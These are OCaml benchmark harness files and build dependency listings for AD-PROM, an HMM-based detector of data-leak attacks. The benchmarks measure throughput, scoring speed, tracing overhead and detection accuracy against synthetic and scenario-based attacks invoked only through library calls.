    (fun i r ->
      Printf.fprintf oc
        "    {\"workload\": \"%s\", \"windows\": %d, \"rejected\": %d, \"off_ms\": \
         %.3f, \"enforce_ms\": %.3f, \"speedup\": %.2f}%s\n"
        r.workload r.windows r.rejected r.off_ms r.enforce_ms (speedup r)
        (if i = List.length rows - 1 then "" else ","))
    rows;
  Printf.fprintf oc "  ]\n}\n";
  close_out oc;
  Printf.printf "wrote BENCH_seqauto.json\n"

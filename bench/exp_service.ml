(* Service throughput: the monitoring daemon at 1, 2 and 4 worker
   domains on one interleaved multi-tenant burst.

   The workload replays the banking application's normal sessions,
   replicated to 64 concurrent tenants (~19k events), against a FIXED
   per-shard queue capacity — bounded queue memory is the daemon's
   operating constraint. A single shard cannot absorb the burst: it
   sheds most tenants and the work already spent on their prefixes is
   discarded with them. Sharding multiplies the absorbable backlog, so
   the useful rate — events of verdict-complete sessions per second —
   rises strictly with the domain count even on a single core; on a
   multi-core host the HMM scoring additionally parallelizes. Every
   shed event is counted and reported. *)

module Service = Adprom_service

let sessions_count = 64
let repeats = 4 (* lengthen each session: trace concatenated with itself *)
let capacity = 8192 (* per-shard queue bound, identical in all configs *)

let workload () =
  let t = Lazy.force Common.ca_banking in
  let traces = List.map snd t.Common.dataset.Adprom.Pipeline.traces in
  let base = Array.of_list traces in
  let sessions =
    List.init sessions_count (fun i ->
        let t = base.(i mod Array.length base) in
        Array.concat (List.init repeats (fun _ -> t)))
  in
  let rng = Mlkit.Rng.create 4242 in
  (Lazy.force t.Common.adprom, Adprom.Sessions.interleave ~rng sessions)

let run () =
  Common.heading "Online daemon: 1 vs 2 vs 4 worker domains, fixed per-shard queues";
  let profile, stream = workload () in
  Printf.printf "%d sessions, %d events, queue capacity %d/shard, %d HMM states\n%!"
    sessions_count (Array.length stream) capacity
    profile.Adprom.Profile.clustering.Adprom.Reduction.states;
  let monitored summary =
    List.fold_left
      (fun acc (r : Service.Daemon.session_report) -> acc + r.Service.Daemon.events)
      0 summary.Service.Daemon.sessions
  in
  let results =
    List.map
      (fun shards ->
        let outcome =
          Service.Replay.run ~shards ~queue_capacity:capacity ~keep_verdicts:false
            profile stream
        in
        (shards, outcome))
      [ 1; 2; 4 ]
  in
  let rate (_, o) =
    float_of_int (monitored o.Service.Replay.summary) /. o.Service.Replay.seconds
  in
  let base_rate = match results with r :: _ -> rate r | [] -> 1.0 in
  Adprom.Report.print
    ~header:
      [
        "domains";
        "monitored events/sec";
        "speedup";
        "complete sessions";
        "shed sessions";
        "shed events";
        "seconds";
      ]
    (List.map
       (fun ((shards, outcome) as r) ->
         let summary = outcome.Service.Replay.summary in
         [
           string_of_int shards;
           Printf.sprintf "%.0f" (rate r);
           Printf.sprintf "%.2fx" (rate r /. base_rate);
           Printf.sprintf "%d / %d"
             (List.length summary.Service.Daemon.sessions)
             sessions_count;
           string_of_int (List.length summary.Service.Daemon.shed);
           string_of_int summary.Service.Daemon.events_dropped;
           Printf.sprintf "%.3f" outcome.Service.Replay.seconds;
         ])
       results);
  Printf.printf
    "\nExpected shape: with one shard the burst overflows the queue bound, most\n\
     tenants are shed and their partially scored prefixes are wasted; more\n\
     domains absorb the whole burst, so useful monitored events/sec rises\n\
     strictly. Shed events are counted above, never silently lost. On a\n\
     multi-core host the scoring itself parallelizes on top of this.\n"

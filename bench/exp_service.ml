(* Service throughput: the monitoring daemon at 1, 2 and 4 worker
   domains on one interleaved multi-tenant burst.

   The workload replays the banking application's normal sessions,
   replicated to 64 concurrent tenants (~19k events), against a FIXED
   per-shard queue capacity — bounded queue memory is the daemon's
   operating constraint. A single shard cannot absorb the burst: it
   sheds most tenants and the work already spent on their prefixes is
   discarded with them. Sharding multiplies the absorbable backlog, so
   the useful rate — events of verdict-complete sessions per second —
   rises strictly with the domain count even on a single core; on a
   multi-core host the HMM scoring additionally parallelizes. Every
   shed event is counted and reported. *)

module Service = Adprom_service

let sessions_count () = if !Common.smoke then 16 else 64
let repeats () = if !Common.smoke then 2 else 4
(* repeats: lengthen each session — trace concatenated with itself *)

let capacity = 8192 (* per-shard queue bound, identical in all configs *)

let workload () =
  let t = Lazy.force Common.ca_banking in
  let traces = List.map snd t.Common.dataset.Adprom.Pipeline.traces in
  let base = Array.of_list traces in
  let sessions =
    List.init (sessions_count ()) (fun i ->
        let t = base.(i mod Array.length base) in
        Array.concat (List.init (repeats ()) (fun _ -> t)))
  in
  let rng = Mlkit.Rng.create 4242 in
  (Lazy.force t.Common.adprom, Adprom.Sessions.interleave ~rng sessions)

(* --- compiled engine vs the pre-refactor scoring path ------------------

   Both passes walk the same multiplexed stream sequentially (one
   domain), one incremental scorer per session. The reference pass is
   the code the service shipped before the compiled engine: an event
   ring, a Window.t materialized on every arrival, and the uncompiled
   forward pass over the profile. The engine pass is Scoring.Stream over
   one shared compiled engine. Identical verdicts are asserted, then
   the rates and the memo hit rate land in BENCH_scoring.json. *)

let reference_pass profile stream =
  let window = profile.Adprom.Profile.params.Adprom.Profile.window in
  let scorers : (int, Runtime.Collector.event option array * int ref) Hashtbl.t =
    Hashtbl.create 64
  in
  let out = ref [] in
  let window_of_last buf pushed =
    let start = pushed - window in
    let event i =
      match buf.((start + i) mod window) with Some e -> e | None -> assert false
    in
    {
      Adprom.Window.obs =
        Array.init window (fun i ->
            Analysis.Symbol.observable (event i).Runtime.Collector.symbol);
      callers = Array.init window (fun i -> (event i).Runtime.Collector.caller);
    }
  in
  Array.iter
    (fun { Service.Codec.session; event } ->
      let buf, pushed =
        match Hashtbl.find_opt scorers session with
        | Some s -> s
        | None ->
            let s = (Array.make window None, ref 0) in
            Hashtbl.replace scorers session s;
            s
      in
      buf.(!pushed mod window) <- Some event;
      incr pushed;
      if !pushed >= window then
        out :=
          Adprom.Detector.reference_classify profile (window_of_last buf !pushed)
          :: !out)
    stream;
  List.rev !out

let engine_pass engine stream =
  let scorers : (int, Adprom.Scoring.Stream.t) Hashtbl.t = Hashtbl.create 64 in
  let out = ref [] in
  Array.iter
    (fun { Service.Codec.session; event } ->
      let st =
        match Hashtbl.find_opt scorers session with
        | Some s -> s
        | None ->
            let s = Adprom.Scoring.Stream.create engine in
            Hashtbl.replace scorers session s;
            s
      in
      match Adprom.Scoring.Stream.push st event with
      | Ok (Some v) -> out := v :: !out
      | Ok None -> ()
      | Error e -> failwith e)
    stream;
  List.rev !out

let same_verdicts a b =
  List.length a = List.length b
  && List.for_all2
       (fun (x : Adprom.Detector.verdict) (y : Adprom.Detector.verdict) ->
         x.Adprom.Detector.flag = y.Adprom.Detector.flag
         && (x.Adprom.Detector.score = y.Adprom.Detector.score
            || (Float.is_nan x.Adprom.Detector.score
               && Float.is_nan y.Adprom.Detector.score))
         && x.Adprom.Detector.unknown_symbol = y.Adprom.Detector.unknown_symbol
         && x.Adprom.Detector.unknown_pair = y.Adprom.Detector.unknown_pair)
       a b

let scoring_showdown profile stream =
  Common.heading
    "Scoring engine: compiled forward pass + verdict memo vs the reference path (1 domain)";
  let before_verdicts, before_s = Common.time (fun () -> reference_pass profile stream) in
  let engine = Adprom.Scoring.create profile in
  let after_verdicts, after_s = Common.time (fun () -> engine_pass engine stream) in
  if not (same_verdicts before_verdicts after_verdicts) then
    failwith "scoring engine diverged from the reference path";
  let events = Array.length stream in
  let rate s = float_of_int events /. s in
  let hits = Adprom.Scoring.cache_hits engine in
  let misses = Adprom.Scoring.cache_misses engine in
  let hit_rate =
    if hits + misses = 0 then 0.0 else float_of_int hits /. float_of_int (hits + misses)
  in
  let speedup = rate after_s /. rate before_s in
  Adprom.Report.print
    ~header:[ "path"; "events/sec"; "speedup"; "memo hit rate" ]
    [
      [ "reference (pre-engine)"; Printf.sprintf "%.0f" (rate before_s); "1.00x"; "-" ];
      [
        "compiled engine";
        Printf.sprintf "%.0f" (rate after_s);
        Printf.sprintf "%.2fx" speedup;
        Adprom.Report.percent_cell hit_rate;
      ];
    ];
  Printf.printf
    "verdicts identical on all %d windows (flag, score, unknown symbol/pair)\n"
    (List.length after_verdicts);
  let oc = open_out "BENCH_scoring.json" in
  Printf.fprintf oc
    "{\n\
    \  \"smoke\": %b,\n\
    \  \"events\": %d,\n\
    \  \"windows\": %d,\n\
    \  \"events_per_sec_before\": %.1f,\n\
    \  \"events_per_sec_after\": %.1f,\n\
    \  \"speedup\": %.2f,\n\
    \  \"cache_hit_rate\": %.4f,\n\
    \  \"verdicts_equivalent\": true\n\
     }\n"
    !Common.smoke events
    (List.length after_verdicts)
    (rate before_s) (rate after_s) speedup hit_rate;
  close_out oc;
  Printf.printf "wrote BENCH_scoring.json\n"

(* --- tracing overhead on the daemon hot path ---------------------------

   The observability acceptance bar: with tracing enabled (spans on the
   queue-wait/batch/drain path, span durations exported into metrics
   histograms) the daemon must stay within a few percent of its
   untraced throughput. Best-of-3 on each side to shave scheduler
   noise; the traced run's span tree and incident log are dumped as CI
   artifacts. *)

let obs_overhead profile stream =
  Common.heading "Observability: daemon throughput, tracing off vs on (4 domains)";
  let shards = 4 in
  let run_once () =
    Service.Replay.run ~shards ~queue_capacity:capacity ~keep_verdicts:false profile
      stream
  in
  let best_of n =
    let rec go k best =
      if k = 0 then best
      else
        let o = run_once () in
        let best =
          match best with
          | Some (b : Service.Replay.outcome) when b.Service.Replay.seconds <= o.Service.Replay.seconds -> Some b
          | _ -> Some o
        in
        go (k - 1) best
    in
    match go n None with Some o -> o | None -> assert false
  in
  let rounds = if !Common.smoke then 2 else 3 in
  Adprom_obs.Trace.set_enabled false;
  let off = best_of rounds in
  Adprom_obs.Trace.clear ();
  Adprom_obs.Trace.set_enabled true;
  let on = best_of rounds in
  Adprom_obs.Trace.set_enabled false;
  let rate (o : Service.Replay.outcome) =
    float_of_int o.Service.Replay.summary.Service.Daemon.events_ingested
    /. o.Service.Replay.seconds
  in
  let overhead_pct = (1.0 -. (rate on /. rate off)) *. 100.0 in
  Adprom.Report.print
    ~header:[ "tracing"; "events/sec"; "seconds"; "spans" ]
    [
      [ "off"; Printf.sprintf "%.0f" (rate off); Printf.sprintf "%.3f" off.Service.Replay.seconds; "0" ];
      [
        "on";
        Printf.sprintf "%.0f" (rate on);
        Printf.sprintf "%.3f" on.Service.Replay.seconds;
        string_of_int (Adprom_obs.Trace.span_count ());
      ];
    ];
  Printf.printf "tracing overhead: %.1f%% (acceptance bar: < 5%%)\n" overhead_pct;
  Adprom_obs.Trace.dump_chrome "trace_service.json";
  Printf.printf "wrote trace_service.json (%d spans)\n"
    (List.length (Adprom_obs.Trace.spans ()));
  let oc = open_out "INCIDENTS_service.log" in
  output_string oc (Service.Alerts.to_string on.Service.Replay.alerts);
  output_string oc "\n";
  close_out oc;
  Printf.printf "wrote INCIDENTS_service.log (%d incidents)\n"
    (Service.Alerts.count on.Service.Replay.alerts);
  let oc = open_out "BENCH_obs.json" in
  Printf.fprintf oc
    "{\n\
    \  \"smoke\": %b,\n\
    \  \"events\": %d,\n\
    \  \"shards\": %d,\n\
    \  \"events_per_sec_traced_off\": %.1f,\n\
    \  \"events_per_sec_traced_on\": %.1f,\n\
    \  \"tracing_overhead_pct\": %.2f,\n\
    \  \"spans\": %d,\n\
    \  \"incidents\": %d\n\
     }\n"
    !Common.smoke (Array.length stream) shards (rate off) (rate on) overhead_pct
    (Adprom_obs.Trace.span_count ())
    (Service.Alerts.count on.Service.Replay.alerts);
  close_out oc;
  Printf.printf "wrote BENCH_obs.json\n"

let run () =
  let profile, stream = workload () in
  scoring_showdown profile stream;
  obs_overhead profile stream;
  Common.heading "Online daemon: 1 vs 2 vs 4 worker domains, fixed per-shard queues";
  Printf.printf "%d sessions, %d events, queue capacity %d/shard, %d HMM states\n%!"
    (sessions_count ()) (Array.length stream) capacity
    profile.Adprom.Profile.clustering.Adprom.Reduction.states;
  let monitored summary =
    List.fold_left
      (fun acc (r : Service.Daemon.session_report) -> acc + r.Service.Daemon.events)
      0 summary.Service.Daemon.sessions
  in
  let results =
    List.map
      (fun shards ->
        let outcome =
          Service.Replay.run ~shards ~queue_capacity:capacity ~keep_verdicts:false
            profile stream
        in
        (shards, outcome))
      [ 1; 2; 4 ]
  in
  let rate (_, o) =
    float_of_int (monitored o.Service.Replay.summary) /. o.Service.Replay.seconds
  in
  let base_rate = match results with r :: _ -> rate r | [] -> 1.0 in
  Adprom.Report.print
    ~header:
      [
        "domains";
        "monitored events/sec";
        "speedup";
        "complete sessions";
        "shed sessions";
        "shed events";
        "seconds";
      ]
    (List.map
       (fun ((shards, outcome) as r) ->
         let summary = outcome.Service.Replay.summary in
         [
           string_of_int shards;
           Printf.sprintf "%.0f" (rate r);
           Printf.sprintf "%.2fx" (rate r /. base_rate);
           Printf.sprintf "%d / %d"
             (List.length summary.Service.Daemon.sessions)
             (sessions_count ());
           string_of_int (List.length summary.Service.Daemon.shed);
           string_of_int summary.Service.Daemon.events_dropped;
           Printf.sprintf "%.3f" outcome.Service.Replay.seconds;
         ])
       results);
  Printf.printf
    "\nExpected shape: with one shard the burst overflows the queue bound, most\n\
     tenants are shed and their partially scored prefixes are wasted; more\n\
     domains absorb the whole burst, so useful monitored events/sec rises\n\
     strictly. Shed events are counted above, never silently lost. On a\n\
     multi-core host the scoring itself parallelizes on top of this.\n"

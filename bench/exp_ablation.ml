(* Ablations of the design choices called out in DESIGN.md:
   - hidden-state clustering on/off (the Sec. V-D speedup claim);
   - window length n (the paper fixes n = 15 citing prior work). *)

let cluster () =
  Common.heading "Ablation: hidden-state clustering (Sec. V-D claim)";
  let app = Dataset.Sir.app4 () in
  let ds = Adprom.Pipeline.collect app in
  let rounds = 3 in
  let run_with max_states =
    let params =
      {
        Adprom.Pipeline.adprom_params with
        Adprom.Profile.max_states;
        max_rounds = rounds;
        patience = rounds;
      }
    in
    let profile, dt = Common.time (fun () -> Adprom.Pipeline.train ~params ds) in
    (profile, dt /. float_of_int profile.Adprom.Profile.rounds_run)
  in
  let clustered, t_clustered = run_with 120 in
  let full, t_full = run_with 100_000 in
  let reduction = (t_full -. t_clustered) /. t_full in
  Adprom.Report.print
    ~header:[ "configuration"; "hidden states"; "sec/round"; "speedup" ]
    [
      [
        "one state per call site";
        string_of_int full.Adprom.Profile.clustering.Adprom.Reduction.states;
        Adprom.Report.float_cell ~digits:2 t_full;
        "-";
      ];
      [
        "PCA + k-means clustering";
        string_of_int clustered.Adprom.Profile.clustering.Adprom.Reduction.states;
        Adprom.Report.float_cell ~digits:2 t_clustered;
        Adprom.Report.percent_cell reduction;
      ];
    ];
  Printf.printf "\nExpected shape (paper): clustering cuts training time by ~70%%.\n"

let windows () =
  Common.heading "Ablation: window length n (paper fixes n = 15; A-S3 bursts on App2)";
  let t = Lazy.force Common.sir_app2 in
  let ds = t.Common.dataset in
  let rows =
    List.map
      (fun n ->
        let params = { Adprom.Pipeline.adprom_params with Adprom.Profile.window = n } in
        let profile = Adprom.Pipeline.train ~params ds in
        let windows =
          List.concat_map
            (fun (_, trace) -> Adprom.Window.of_trace ~window:n trace)
            ds.Adprom.Pipeline.traces
        in
        let rng = Mlkit.Rng.create 77 in
        let anomalies =
          Attack.Synthetic.batch ~rng ~legitimate:profile.Adprom.Profile.alphabet
            ~kind:`S3 ~count:150 windows
        in
        let engine = Adprom.Scoring.create profile in
        let flagged w =
          (Adprom.Scoring.classify engine w).Adprom.Detector.flag <> Adprom.Detector.Normal
        in
        let c =
          List.fold_left
            (fun acc w -> Adprom.Evaluation.observe acc ~anomalous:false ~flagged:(flagged w))
            Adprom.Evaluation.empty windows
        in
        let c =
          List.fold_left
            (fun acc w -> Adprom.Evaluation.observe acc ~anomalous:true ~flagged:(flagged w))
            c anomalies
        in
        [
          string_of_int n;
          Adprom.Report.float_cell ~digits:4 (Adprom.Evaluation.fp_rate c);
          Adprom.Report.float_cell ~digits:4 (Adprom.Evaluation.fn_rate c);
          Adprom.Report.float_cell ~digits:4 (Adprom.Evaluation.accuracy c);
        ])
      [ 6; 10; 15; 30 ]
  in
  Adprom.Report.print ~header:[ "n"; "FP rate"; "FN rate"; "accuracy" ] rows

let run () =
  cluster ();
  windows ()

(* The full Sec. III adversary model: all eight attack flavors
   (1.1-3.3) against the CA applications, with AD-PROM's verdict and the
   flag raised. Table V covers five of these; the rest exercise the same
   machinery through the remaining vectors (selectivity widening,
   store-to-file reuse, ROP/BROP gadget chains, MITM query rewriting). *)

let trained_for (app : Adprom.Pipeline.app) =
  let pick (_, t) =
    (Lazy.force t).Common.dataset.Adprom.Pipeline.app.Adprom.Pipeline.name
    = app.Adprom.Pipeline.name
  in
  match List.find_opt pick (Common.ca_all ()) with
  | Some (_, t) -> Lazy.force t
  | None -> Common.prepare app

let run () =
  Common.heading "Adversary model (Sec. III): all eight attack flavors vs AD-PROM";
  let rows =
    List.map
      (fun (flavor, (case : Dataset.Ca_attacks.case)) ->
        let trained = trained_for case.Dataset.Ca_attacks.app in
        let profile = Lazy.force trained.Common.adprom in
        let traces =
          Attack.Scenario.run case.Dataset.Ca_attacks.scenario case.Dataset.Ca_attacks.app
        in
        let engine = Adprom.Scoring.of_profile profile in
        let verdicts =
          List.concat_map
            (fun (_, trace) -> List.map snd (Adprom.Scoring.monitor engine trace))
            traces
        in
        let worst = Adprom.Detector.worst verdicts in
        [
          flavor;
          case.Dataset.Ca_attacks.app.Adprom.Pipeline.name;
          (match worst with
          | Adprom.Detector.Normal -> "undetected"
          | other -> "detected (" ^ Adprom.Detector.flag_to_string other ^ ")");
        ])
      (Dataset.Ca_attacks.adversary_model ())
  in
  Adprom.Report.print ~header:[ "attack flavor"; "target"; "AD-PROM" ] rows;
  Printf.printf
    "\nExpected shape (Sec. III): every flavor changes the call sequences or\n\
     their labels, so AD-PROM detects all eight and ties each to the data\n\
     source via the data-leak flag.\n"

(* Table VII: confusion matrix of each SIR model. Normal windows are the
   held-out Normal-sequences; anomalies are synthetic A-S2 (foreign
   calls) and A-S3 (inflated frequency) sequences, as in Sec. V-D. *)

let anomalies_per_kind = 60

let run () =
  Common.heading "Table VII: Confusion matrix of the programs' models (A-S2 + A-S3)";
  let rows =
    List.map
      (fun (label, trained) ->
        let t = Lazy.force trained in
        let profile = Lazy.force t.Common.adprom in
        let ds = t.Common.dataset in
        let rng = Mlkit.Rng.create 4242 in
        let legit = profile.Adprom.Profile.alphabet in
        let pool = ds.Adprom.Pipeline.windows in
        let synth kind =
          Attack.Synthetic.batch ~rng ~legitimate:legit ~kind
            ~count:anomalies_per_kind pool
        in
        let anomalous = synth `S2 @ synth `S3 in
        let engine = Adprom.Scoring.of_profile profile in
        let flagged w =
          (Adprom.Scoring.classify engine w).Adprom.Detector.flag <> Adprom.Detector.Normal
        in
        let confusion =
          List.fold_left
            (fun acc w -> Adprom.Evaluation.observe acc ~anomalous:false ~flagged:(flagged w))
            Adprom.Evaluation.empty pool
        in
        let confusion =
          List.fold_left
            (fun acc w -> Adprom.Evaluation.observe acc ~anomalous:true ~flagged:(flagged w))
            confusion anomalous
        in
        let c = confusion in
        [
          label;
          string_of_int (Adprom.Evaluation.total c);
          string_of_int c.Adprom.Evaluation.tp;
          string_of_int c.Adprom.Evaluation.tn;
          string_of_int c.Adprom.Evaluation.fp;
          string_of_int c.Adprom.Evaluation.fn;
          Adprom.Report.float_cell ~digits:2 (Adprom.Evaluation.recall c);
          Adprom.Report.float_cell ~digits:2 (Adprom.Evaluation.precision c);
          Adprom.Report.float_cell ~digits:4 (Adprom.Evaluation.accuracy c);
        ])
      (Common.sir_all ())
  in
  Adprom.Report.print
    ~header:[ ""; "#seq."; "TP"; "TN"; "FP"; "FN"; "Rec."; "Prec."; "Acc." ]
    rows;
  Printf.printf "\nExpected shape (paper): accuracy >= 0.99 with single-digit FP/FN.\n"

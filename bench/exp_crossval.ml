(* The paper's cross-validation protocol (Sec. V-B): "we perform k-folds
   cross validation on the rest (4/5) of the data, where k here is equal
   to 10". Here the folds are test cases (not windows), so validation
   windows come from runs the model never saw — a generalization
   estimate of the FP rate, alongside the FN rate on A-S1 anomalies
   generated from the held-out traces. *)

let k = 10

let run () =
  Common.heading
    (Printf.sprintf "Cross-validation (k = %d) on App2: held-out FP / A-S1 FN per fold" k);
  let app = Dataset.Sir.app2 () in
  let analysis = Adprom.Pipeline.analyze_app app in
  let traces =
    List.map
      (fun tc -> (tc, fst (Adprom.Pipeline.run_case ~analysis app tc)))
      app.Adprom.Pipeline.test_cases
  in
  let folds = Adprom.Evaluation.kfold ~k traces in
  let rng = Mlkit.Rng.create 2024 in
  let rows, confusions =
    List.split
      (List.mapi
         (fun i (train, valid) ->
           let windows_of ts =
             List.concat_map (fun (_, t) -> Adprom.Window.of_trace ~window:15 t) ts
           in
           let profile =
             Adprom.Profile.train ~params:Adprom.Pipeline.adprom_params ~analysis
               (windows_of train)
           in
           let valid_windows = windows_of valid in
           let anomalies =
             Attack.Synthetic.batch ~rng ~legitimate:profile.Adprom.Profile.alphabet
               ~kind:`S1 ~count:40 valid_windows
           in
           (* each fold trains its own profile, so compile it explicitly
              rather than growing the domain-local engine cache *)
           let engine = Adprom.Scoring.create profile in
           let flagged w =
             (Adprom.Scoring.classify engine w).Adprom.Detector.flag
             <> Adprom.Detector.Normal
           in
           let c =
             List.fold_left
               (fun acc w ->
                 Adprom.Evaluation.observe acc ~anomalous:false ~flagged:(flagged w))
               Adprom.Evaluation.empty valid_windows
           in
           let c =
             List.fold_left
               (fun acc w ->
                 Adprom.Evaluation.observe acc ~anomalous:true ~flagged:(flagged w))
               c anomalies
           in
           ( [
               string_of_int (i + 1);
               string_of_int (List.length valid_windows);
               Adprom.Report.float_cell ~digits:4 (Adprom.Evaluation.fp_rate c);
               Adprom.Report.float_cell ~digits:4 (Adprom.Evaluation.fn_rate c);
             ],
             c ))
         folds)
  in
  Adprom.Report.print
    ~header:[ "fold"; "held-out windows"; "FP rate"; "FN rate" ]
    rows;
  let total = List.fold_left Adprom.Evaluation.merge Adprom.Evaluation.empty confusions in
  Printf.printf
    "\nPooled over folds: FP rate %.4f, FN rate %.4f, accuracy %.4f\n\
     (FP here is measured on runs the model never trained on.)\n"
    (Adprom.Evaluation.fp_rate total)
    (Adprom.Evaluation.fn_rate total)
    (Adprom.Evaluation.accuracy total)

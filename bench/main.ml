(* Benchmark harness: regenerates every table and figure of the paper's
   evaluation (Sec. V). Run with no argument for the full suite, or name
   the experiments to run:

     dune exec bench/main.exe -- table5 fig10
     dune exec bench/main.exe -- all

   Experiment ids: table1-2 table3 table4 table5 table6 table7 table8
   fig10 ablation-cluster ablation-window microbench. *)

let experiments =
  [
    ("table1-2", Exp_tables12.run);
    ("table3", Exp_table3.run);
    ("table4", Exp_table4.run);
    ("table5", Exp_table5.run);
    ("adversary-model", Exp_adversary.run);
    ("table6", Exp_table6.run);
    ("table7", Exp_table7.run);
    ("table8", Exp_table8.run);
    ("fig10", Exp_fig10.run);
    ("crossval", Exp_crossval.run);
    ("interleaved-sessions", Exp_operations.sessions);
    ("service-throughput", Exp_service.run);
    ("cluster", Exp_cluster.run);
    ("vet", Exp_vet.run);
    ("seqauto", Exp_seqauto.run);
    ("qsig", Exp_qsig.run);
    ("qstatic", Exp_qstatic.run);
    ("drift", Exp_operations.drift);
    ("profile-size", Exp_profile_size.run);
    ("ablation-cluster", Exp_ablation.cluster);
    ("ablation-window", Exp_ablation.windows);
    ("microbench", Microbench.run);
  ]

let usage () =
  Printf.printf "usage: main.exe [--smoke] [all | %s]\n"
    (String.concat " | " (List.map fst experiments))

let () =
  let raw = match Array.to_list Sys.argv with _ :: args -> args | [] -> [] in
  Common.smoke := List.mem "--smoke" raw;
  let requested =
    match List.filter (fun a -> a <> "--smoke") raw with
    | [] | [ "all" ] -> List.map fst experiments
    | args -> args
  in
  let unknown = List.filter (fun a -> not (List.mem_assoc a experiments)) requested in
  if unknown <> [] then begin
    List.iter (Printf.printf "unknown experiment: %s\n") unknown;
    usage ();
    exit 1
  end;
  let t0 = Unix.gettimeofday () in
  List.iter
    (fun id ->
      let run = List.assoc id experiments in
      run ())
    requested;
  Printf.printf "\nTotal bench time: %.1fs\n" (Unix.gettimeofday () -. t0)

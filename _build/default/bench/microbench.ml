(* Bechamel micro-benchmarks of the computational kernels behind the
   paper's timing tables: one Test.make per table/figure workload.

   - table6/*: one intercepted library call under AD-PROM's collector vs
     the simulated ltrace (the per-call costs behind Table VI);
   - table8/*: CFG construction, probability forecast and aggregation on
     App_h (the steps of Table VIII);
   - fig10/*: one scaled-forward evaluation and one Baum-Welch round on
     a mid-sized model (the kernels dominating Fig. 10 / Table VII). *)

open Bechamel
open Toolkit

let collector_tests () =
  let hospital = Dataset.Ca_hospital.app () in
  let analysis = Adprom.Pipeline.analyze_app hospital in
  let symbol = Analysis.Symbol.lib "printf" in
  let args = [ Rvalue_args.sample ] in
  let adprom_collector, _ = Runtime.Collector.adprom () in
  let symtab = Runtime.Ltrace.symtab_of_cfgs analysis.Analysis.Analyzer.cfgs in
  let ltrace_collector, _, log = Runtime.Ltrace.make ~symtab in
  [
    Test.make ~name:"table6/adprom-collector-emit"
      (Staged.stage (fun () ->
           adprom_collector.Runtime.Collector.emit ~symbol ~caller:"main" ~block:12 ~args));
    Test.make ~name:"table6/ltrace-emit"
      (Staged.stage (fun () ->
           if Buffer.length log > 1_000_000 then Buffer.clear log;
           ltrace_collector.Runtime.Collector.emit ~symbol ~caller:"main" ~block:12 ~args));
  ]

let analysis_tests () =
  let source = Dataset.Ca_supermarket.source in
  let program = Applang.Parser.parse_program source in
  let cfgs, _ = Analysis.Cfg_build.build_program program in
  let ctms = Analysis.Forecast.ctms cfgs in
  let callgraph = Analysis.Callgraph.build cfgs in
  [
    Test.make ~name:"table8/build-cfg"
      (Staged.stage (fun () -> ignore (Analysis.Cfg_build.build_program program)));
    Test.make ~name:"table8/probability-forecast"
      (Staged.stage (fun () -> ignore (Analysis.Forecast.ctms cfgs)));
    Test.make ~name:"table8/aggregation"
      (Staged.stage (fun () ->
           ignore (Analysis.Aggregate.program_ctm ctms callgraph ~entry:"main")));
  ]

let hmm_tests () =
  let rng = Mlkit.Rng.create 5 in
  let model = Hmm.random ~rng ~n:40 ~m:30 in
  let seq = Array.init 15 (fun i -> i mod 30) in
  let weighted = List.init 50 (fun i -> (Array.map (fun o -> (o + i) mod 30) seq, 1.0)) in
  [
    Test.make ~name:"fig10/forward-window15"
      (Staged.stage (fun () -> ignore (Hmm.per_symbol_score model seq)));
    Test.make ~name:"fig10/baum-welch-round-50seq"
      (Staged.stage (fun () -> ignore (Hmm.baum_welch_step model weighted)));
  ]

let run () =
  Common.heading "Micro-benchmarks (Bechamel): kernels behind Tables VI/VIII and Fig. 10";
  let tests =
    Test.make_grouped ~name:"adprom"
      (collector_tests () @ analysis_tests () @ hmm_tests ())
  in
  let cfg = Benchmark.cfg ~limit:2000 ~quota:(Time.second 0.5) () in
  let raw = Benchmark.all cfg Instance.[ monotonic_clock ] tests in
  let ols = Analyze.ols ~r_square:false ~bootstrap:0 ~predictors:[| Measure.run |] in
  let results = Analyze.all ols Instance.monotonic_clock raw in
  let rows = ref [] in
  Hashtbl.iter
    (fun name est ->
      let ns =
        match Analyze.OLS.estimates est with
        | Some (v :: _) -> Printf.sprintf "%.1f" v
        | Some [] | None -> "n/a"
      in
      rows := [ name; ns ] :: !rows)
    results;
  Adprom.Report.print
    ~header:[ "kernel"; "ns/run" ]
    (List.sort compare !rows)

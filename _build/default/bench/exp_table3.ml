(* Table III: statistics about the CA-dataset. "#states" is the number
   of distinct call sites in the aggregated pCTM (the hidden-state count
   before any reduction). *)

let run () =
  Common.heading "Table III: Statistics about the CA-dataset";
  let row (label, trained) =
    let t = Lazy.force trained in
    let ds = t.Common.dataset in
    let states =
      List.length (Analysis.Ctm.calls ds.Adprom.Pipeline.analysis.Analysis.Analyzer.pctm)
    in
    [
      label;
      string_of_int states;
      ds.Adprom.Pipeline.app.Adprom.Pipeline.dbms;
      string_of_int (List.length ds.Adprom.Pipeline.traces);
      string_of_int (List.length ds.Adprom.Pipeline.windows);
    ]
  in
  Adprom.Report.print
    ~header:[ "Client App"; "#states"; "DBMS"; "#test cases"; "#sequences" ]
    (List.map row (Common.ca_all ()))

bench/exp_operations.ml: Adprom Attack Common Dataset Lazy List Mlkit Printf Runtime

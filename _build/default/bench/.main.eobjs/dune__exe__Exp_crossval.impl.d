bench/exp_crossval.ml: Adprom Attack Common Dataset List Mlkit Printf

bench/exp_table6.ml: Adprom Analysis Common Float Lazy List Printf Runtime String Unix

bench/exp_table7.ml: Adprom Attack Common Lazy List Mlkit Printf

bench/exp_fig10.ml: Adprom Array Attack Common Lazy List Mlkit Printf

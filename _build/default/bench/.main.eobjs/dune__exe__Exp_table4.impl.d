bench/exp_table4.ml: Adprom Array Common Dataset Lazy List

bench/microbench.ml: Adprom Analysis Analyze Applang Array Bechamel Benchmark Buffer Common Dataset Hashtbl Hmm Instance List Measure Mlkit Printf Runtime Rvalue_args Staged Test Time Toolkit

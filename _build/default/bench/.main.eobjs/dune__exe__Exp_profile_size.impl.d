bench/exp_profile_size.ml: Adprom Array Common Lazy List Printf String

bench/exp_adversary.ml: Adprom Attack Common Dataset Lazy List Printf

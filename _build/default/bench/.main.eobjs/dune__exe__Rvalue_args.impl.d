bench/rvalue_args.ml: Runtime

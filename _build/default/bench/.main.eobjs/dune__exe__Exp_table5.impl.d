bench/exp_table5.ml: Adprom Attack Common Dataset Lazy List Printf

bench/exp_table8.ml: Adprom Analysis Applang Common Lazy List Printf

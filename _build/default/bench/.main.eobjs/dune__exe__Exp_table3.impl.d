bench/exp_table3.ml: Adprom Analysis Common Lazy List

bench/exp_ablation.ml: Adprom Attack Common Dataset Lazy List Mlkit Printf

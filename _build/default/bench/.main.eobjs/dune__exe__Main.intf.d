bench/main.mli:

